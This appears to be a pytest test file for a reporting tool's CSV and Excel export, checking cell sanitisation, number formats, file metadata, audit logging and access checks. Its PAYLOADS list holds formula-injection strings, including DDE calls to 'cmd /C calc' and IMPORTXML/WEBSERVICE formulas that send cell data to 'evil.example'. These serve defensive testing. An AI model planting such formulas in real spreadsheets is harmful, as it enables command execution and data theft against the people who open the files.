"""A table taken along: nothing in it runs, it says what it is, and only who may see it gets it."""

from __future__ import annotations

import csv
import io
import math
import string
import zipfile
from datetime import date, datetime

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from metrics.catalogue import CATALOGUE
from metrics.comparison.currency import use_currency
from metrics.definitions.measure import version
from reports.documents import safe_cells
from reports.documents.sanitise import tied
from reports.exports.table_files import Sheet, export, file_name
from reports.exports.workbook_file import workbook
from warehouse.access.reader import Viewer
from warehouse.app_db.app_schema import audit_log
from warehouse.errors import AccessRefused
from warehouse.stores.connect import Stores

AMY = Viewer("amy", "Amy Chan", "analyst")
LIVE = "=+-@"
PAYLOADS = [
    *(f"{sign}1+1" for sign in LIVE),
    *(f"{sign}1+1" for sign in "＝＋－＠"),
    *(f"{sign}1+1" for sign in "﹦﹢﹣﹫"),
    *(
        f"{blank}=1+1"
        for blank in ("\t", "\r", "\n", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\0", "\r\n\t")
    ),
    *("\tplain", "\rplain", "\nplain"),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=DDE('cmd';'/C calc';'x')",
    "-1-1",
    "-1e5+A1",
    "--1",
    "-A1",
    "+85291234567",
    '";=1+1',
    "=1+1;=1+1",
]


def sheet(frame: pd.DataFrame, **more) -> Sheet:
    return Sheet(title="Funnel: channels", content=lambda _viewer: frame, **more)


def in_csv(made: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))


def in_zip(made: bytes, name: str = "about.csv") -> bytes:
    with zipfile.ZipFile(io.BytesIO(made)) as files:
        return files.read(name)


def test_a_csv_file_is_read_as_it_is_and_the_zip_has_the_same_table(empty: Stores) -> None:
    frame = pd.DataFrame(
        {"Channel": ["email", "branch, walk-in"], "Leads": [3, 40], "Win rate": ["61.3%", "5.0%"]}
    )
    made = export(empty, sheet(frame), "csv", AMY, AMY)
    pd.testing.assert_frame_equal(pd.read_csv(io.BytesIO(made)), frame)
    assert in_zip(export(empty, sheet(frame), "zip", AMY, AMY), "table.csv") == made


def test_the_workbook_has_shares_as_numbers_formats_widths_and_a_chart(empty: Stores) -> None:
    frame = pd.DataFrame(
        {
            "Channel": ["email", "a long name of a channel"],
            "Leads": [1234, 40],
            "Win rate": ["61.3%", "too few"],
            "Cost, HKD": [1.25, math.nan],
        }
    )
    table = load_workbook(io.BytesIO(export(empty, sheet(frame), "xlsx", AMY, AMY)))["Table"]
    assert [cell.value for cell in table[2]] == ["email", 1234, 0.613, 1.25]
    assert [cell.number_format for cell in table[2]][1:] == ["#,##0", "0.0%", "#,##0.00"]
    assert table["C3"].value == "too few"
    assert table.column_dimensions["A"].width > len("a long name of a channel")
    assert table.auto_filter.ref == "A1:D3"
    assert len(table._charts) == 1


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == 40


def test_no_payload_is_live_in_either_file_nor_as_a_heading(empty: Stores) -> None:
    frame = pd.DataFrame({"Text": PAYLOADS, "=1+1": 1})
    taken = export(empty, sheet(frame), "csv", AMY, AMY)
    rows = in_csv(taken)
    assert len(rows) == len(PAYLOADS) + 1
    live = [cell for row in rows for cell in row if cell[:1] in {*LIVE, *"＝＋－＠﹦﹢﹣﹫\t\r\n"}]
    live += [
        cell for row in rows for cell in row if cell.strip("\u200b\ufeff\u3000 \t\r\n\0")[:1] in LIVE and cell
    ]
    assert not live or set(live) == set()
    book = load_workbook(io.BytesIO(export(empty, sheet(frame), "xlsx", AMY, AMY)))
    kinds = {cell.data_type for row in book["Table"].iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s", "n"}
    assert book["Table"]["A2"].quotePrefix, "it stays text when somebody edits the cell"


def test_where_a_spreadsheet_splits_at_semicolons_no_piece_of_a_text_becomes_a_cell(empty: Stores) -> None:
    made = export(empty, sheet(pd.DataFrame({"Text": ["a;=1+1", 'b";=1+1']})), "csv", AMY, AMY)
    split = list(csv.reader(io.StringIO(made.decode("utf-8-sig")), delimiter=";"))
    assert not [cell for row in split for cell in row if cell[:1] in LIVE]


@given(st.text(alphabet=string.printable + "＝＋－＠\u3000\u200b", max_size=12))
def test_inert_text_never_begins_like_a_formula_and_loses_nothing(text: str) -> None:
    made = safe_cells.inert(text)
    assert made.removeprefix("'") == text or made == text
    if not safe_cells._A_NUMBER.fullmatch(made):
        assert made[:1] not in {*LIVE, *"＝＋－＠\t\r\n"}


@pytest.mark.parametrize("number", [-5, -5.25, -1_000_000.5, 0, math.nan])
def test_a_negative_number_stays_a_number(number: float, empty: Stores) -> None:
    frame = pd.DataFrame({"Change": [number, 2.5]})
    text = in_csv(export(empty, sheet(frame), "csv", AMY, AMY))[-2][0]
    cell = load_workbook(io.BytesIO(export(empty, sheet(frame), "xlsx", AMY, AMY)))["Table"]["A2"]
    if math.isnan(number):
        assert text == ""
        assert cell.value is None
    else:
        assert float(text) == cell.value == number


def test_a_negative_number_written_as_text_is_left_alone() -> None:
    assert [safe_cells.inert(t) for t in ("-5", "-1,234.5", "-3.1%", "−3.1%")] == [
        "-5",
        "-1,234.5",
        "-3.1%",
        "−3.1%",
    ]


def test_days_moments_and_whole_numbers_keep_their_kind(empty: Stores) -> None:
    frame = pd.DataFrame(
        {
            "Day": pd.to_datetime(["2026-02-28", "2024-02-29"]),
            "Moment": pd.to_datetime(["2026-02-28 23:59", ""]),
            "Leads": [3.0, math.nan],
            "Complaint": [True, False],
        }
    )
    table = load_workbook(io.BytesIO(export(empty, sheet(frame), "xlsx", AMY, AMY)))["Table"]
    assert [c.value for c in table[3]] == [datetime(2024, 2, 29), None, None, False]
    rows = in_csv(export(empty, sheet(frame), "csv", AMY, AMY))
    assert rows[-2:] == [["2026-02-28", "2026-02-28 23:59:00", "3", "yes"], ["2024-02-29", "", "", "no"]]


def test_the_file_says_what_it_is(empty: Stores) -> None:
    about = sheet(
        pd.DataFrame({"Channel": ["email"]}),
        metrics=("win_rate",),
        scope="1 Apr – 30 Jun 2026, channel email",
        as_of=date(2026, 6, 30),
        empty_cell="too few people to show",
        sample=True,
    )
    for head in (
        "\n".join(f"{name}: {text}" for name, text in in_csv(in_zip(export(empty, about, "zip", AMY, AMY)))),
        "\n".join(
            f"{name.value}: {text.value}"
            for name, text in load_workbook(io.BytesIO(export(empty, about, "xlsx", AMY, AMY)))[
                "About"
            ].iter_rows()
        ),
    ):
        assert f"Win rate, version {version(CATALOGUE['win_rate'])}: Of the opportunities closed" in head
        assert "Period and filters: 1 Apr – 30 Jun 2026, channel email" in head
        assert "As of: 30 Jun 2026" in head
        assert "An empty cell means: too few people to show" in head
        assert "by Amy Chan (analyst)" in head
        assert "is invented" in head
    assert file_name(about, "csv") == "concord-funnel-channels-2026-06-30.csv"


def test_each_file_leaves_a_line_in_the_audit_log(empty: Stores) -> None:
    export(empty, sheet(pd.DataFrame({"a": [1, 2]}), scope="June 2026"), "csv", AMY, AMY)
    with empty.app_db.connect() as app_db:
        line = app_db.execute(select(audit_log).order_by(audit_log.c.line.desc())).first()
    assert line is not None
    assert (line.who, line.action, line.subject) == ("amy", "export.taken", "Funnel: channels")
    assert line.why == "csv, 2 rows, June 2026"


@pytest.mark.parametrize(
    "now",
    [None, Viewer("amy", "Amy Chan", "marketing"), Viewer("amy", "Amy Chan", "relationship_manager", "RM01")],
    ids=["signed out", "another role", "an RM by now"],
)
def test_who_lost_the_right_between_page_and_click_gets_nothing(now: Viewer | None, empty: Stores) -> None:
    viewers: list[Viewer] = []

    def content(viewer: Viewer) -> pd.DataFrame:
        viewers.append(viewer)
        return pd.DataFrame()

    about = Sheet(title="Funnel: channels", content=content)
    with pytest.raises(AccessRefused):
        export(empty, about, "csv", AMY, now)
    assert not viewers, "the table was not even read"
    with empty.app_db.connect() as app_db:
        assert [r.action for r in app_db.execute(select(audit_log))] == ["export.refused"]


def test_written_amounts_and_counts_are_numbers_in_the_workbook_and_the_number_of_a_lead_is_text() -> None:
    frame = pd.DataFrame(
        {
            "Channel": ["Email", "Event"],
            "Cost per customer": ["HKD 5,814", "no cost data"],
            "Customers": ["1,204", "33"],
            "NPS": ["+4 points", "−2 points"],
            "Lead id": ["204", "117"],
        }
    )
    table = load_workbook(io.BytesIO(workbook(frame, [])))["Table"]
    cells = [[cell.value for cell in row] for row in table.iter_rows(min_row=2)]
    assert cells == [["Email", 5814, 1204, 4, "204"], ["Event", "no cost data", 33, -2, "117"]]
    assert [cell.number_format for cell in table[2]][1:3] == ['"HKD "#,##0', "#,##0"]


def test_amounts_of_another_currency_are_numbers_and_stay_on_one_line() -> None:
    try:
        use_currency("EUR")
        table = load_workbook(io.BytesIO(workbook(pd.DataFrame({"Cost": ["EUR 5,814"]}), [])))["Table"]
        assert (table["A2"].value, table["A2"].number_format) == (5814, '"EUR "#,##0')
        assert "EUR\u00a05,814" in tied("It cost EUR 5,814 per customer")
    finally:
        use_currency("HKD")
